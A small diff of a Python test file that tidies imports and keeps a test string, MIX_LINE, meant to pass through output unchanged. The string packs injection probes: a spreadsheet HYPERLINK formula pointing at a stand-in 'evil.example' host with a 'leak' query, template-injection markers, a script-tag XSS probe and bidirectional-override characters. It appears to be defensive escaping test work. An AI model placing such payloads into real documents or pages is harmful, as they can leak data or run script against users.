@@ -27,8 +27,7 @@ import yaml
 from docx import Document as WordDocument
 from sqlmodel import select
 
-from conftest import EXAMPLE, run_cli
-from webclient import sign_in
+from helpers import EXAMPLE, run_cli, sign_in
 
 #: Everything in one line that is not refused: it must come out as typed.
 MIX_LINE = '=HYPERLINK("http://evil.example/?leak","Click") [/] [bold]x[/red] {{ 7*7 }} {% if x %} <script>alert(1)</script> \u202eevil\u202c 📚 & \'q\''
